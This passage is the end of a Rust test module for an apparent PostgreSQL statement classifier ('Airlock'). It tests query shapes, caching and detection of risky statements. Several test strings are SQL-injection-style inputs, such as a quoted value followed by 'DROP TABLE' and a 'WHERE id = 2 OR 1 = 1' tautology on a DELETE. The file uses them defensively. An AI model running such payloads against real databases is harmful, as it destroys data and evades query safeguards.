        assert!(!guarded.contains(&C::DeleteWithoutWhere), "{guarded:?}");
    }

    #[test]
    fn settings_that_change_lexing_are_noticed() {
        for sql in [
            "SET standard_conforming_strings = off",
            "set local client_encoding to 'LATIN1'",
            "SET NAMES 'SJIS'",
            "RESET ALL",
            "ROLLBACK",
            "DISCARD ALL",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "SELECT my_function()",
            "DO $$ BEGIN END $$",
            "EXECUTE p",
        ] {
            assert!(Classification::of(sql).may_change_lexing, "{sql}");
        }
        for sql in ["SELECT a FROM t WHERE b = 'x'", "SET search_path = app", "INSERT INTO t VALUES (1)"] {
            assert!(!Classification::of(sql).may_change_lexing, "{sql}");
        }
    }

    #[test]
    fn literals_are_blanked_in_shapes() {
        let same = [
            ("SELECT abalance FROM a WHERE aid = 42;", "SELECT abalance FROM a WHERE aid = 7;"),
            ("SELECT * FROM t WHERE name = 'o''brien' AND x > 1.5", "SELECT * FROM t WHERE name = '' AND x > 22.75"),
            ("SELECT \"it's\" FROM t WHERE a = 'x'", "SELECT \"it's\" FROM t WHERE a = 'yy'"),
            ("INSERT INTO t VALUES ('é', 1)", "INSERT INTO t VALUES ('ü', 2)"),
        ];
        for (a, b) in same {
            assert_eq!(shape(a), shape(b), "{a} / {b}");
            assert!(shape(a).is_some(), "{a}");
        }
        let different = [
            ("SELECT 1", "SELECT 1.5"),
            ("SELECT \"a'b\" FROM t WHERE x = 1", "SELECT \"a'c\" FROM t WHERE x = 1"),
            ("SELECT * FROM t1 WHERE a = 1", "SELECT * FROM t2 WHERE a = 1"),
            ("SELECT 'a'", "SELECT 'a'; DROP TABLE t"),
        ];
        for (a, b) in different {
            assert_ne!(shape(a), shape(b), "{a} / {b}");
        }
        for unsure in [
            "SELECT 'a\\'; DROP TABLE x; --'",
            "SELECT E'a\\'' ",
            "SELECT U&'d\\0061t' ",
            "SELECT X'ff'",
            "SELECT $$a$$",
            "SELECT $1",
            "SELECT 1 -- 2",
            "SELECT /* 'x' */ 1",
            "SELECT 1e5",
            "SELECT 12345678901234567890",
            "SELECT 'unterminated",
            "SELECT \"unterminated",
            "SELECT a FROM t",
        ] {
            assert_eq!(shape(unsure), None, "{unsure}");
        }
        assert_eq!(
            shape("SELECT x1, 2 FROM t_3 WHERE y = 4.25").as_deref(),
            Some("SELECT x1, 0 FROM t_3 WHERE y = 0.0")
        );
    }

    #[test]
    fn statements_of_one_shape_share_a_classification() {
        let classifier = Classifier::default();
        let first = classifier.classify("DELETE FROM t WHERE id = 1", Lexing::default());
        let second = classifier.classify("DELETE FROM t WHERE id = 2", Lexing::default());
        assert!(Arc::ptr_eq(&first, &second));
        // Unless a literal decided the class.
        let everything = classifier.classify("DELETE FROM t WHERE id = 2 OR 1 = 1", Lexing::default());
        assert!(everything.classes.contains(&C::DeleteWithoutWhere), "{everything:?}");
        assert!(
            !classifier
                .classify("DELETE FROM t WHERE id = 2 OR 1 = 2", Lexing::default())
                .classes
                .contains(&C::DeleteWithoutWhere)
        );
        assert!(
            classifier
                .classify("DELETE FROM t WHERE id = 3 OR 1 = 1", Lexing::default())
                .classes
                .contains(&C::DeleteWithoutWhere)
        );
        // What did not parse is parsed again: its error is its own.
        let bad = classifier.classify("SELEC 'a'", Lexing::default());
        let again = classifier.classify("SELEC 'b'", Lexing::default());
        assert!(!Arc::ptr_eq(&bad, &again));
        assert!(again.classes.contains(&C::Unparsed));
    }

    #[test]
    fn the_cache_returns_the_same_answer() {
        let classifier = Classifier::default();
        let first = classifier.classify("DELETE FROM t", Lexing::default());
        let second = classifier.classify("DELETE FROM t", Lexing::default());
        assert!(Arc::ptr_eq(&first, &second));
        assert!(
            classifier.classify(&"x".repeat(MAX_CLASSIFIED_LEN + 1), Lexing::default()).classes.contains(&C::Unparsed)
        );
    }

    #[test]
    fn psql_describe_queries_parse() {
        // What `psql -E` shows for \\d t and \\dt: Airlock must read them, or
        // every describe command would count as unparsed.
        let describe = "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;";
        let list = "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam\nWHERE c.relkind IN ('r','p','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;";
        let columns = "SELECT a.attname,\n  pg_catalog.format_type(a.atttypid, a.atttypmod),\n  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)\n   FROM pg_catalog.pg_attrdef d\n   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),\n  a.attnotnull,\n  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t\n   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation\nFROM pg_catalog.pg_attribute a\nWHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped\nORDER BY a.attnum;";
        for sql in [describe, list, columns] {
            let c = Classification::of(sql);
            assert_eq!(c.classes.iter().copied().collect::<Vec<_>>(), [C::Read], "{sql}: {c:?}");
        }
    }

    #[test]
    fn class_names_round_trip() {
        for class in StatementClass::ALL {
            assert_eq!(StatementClass::from_name(class.as_str()), Some(class));
        }
        assert_eq!(StatementClass::from_name("nope"), None);
    }
}
